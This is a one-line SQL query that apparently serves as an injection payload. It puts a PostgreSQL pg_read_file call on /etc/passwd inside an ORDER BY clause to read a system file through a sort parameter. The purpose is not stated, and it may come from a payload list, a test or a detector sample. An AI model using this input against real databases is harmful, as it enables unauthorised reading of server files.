SELECT * FROM orders ORDER BY pg_read_file('/etc/passwd')
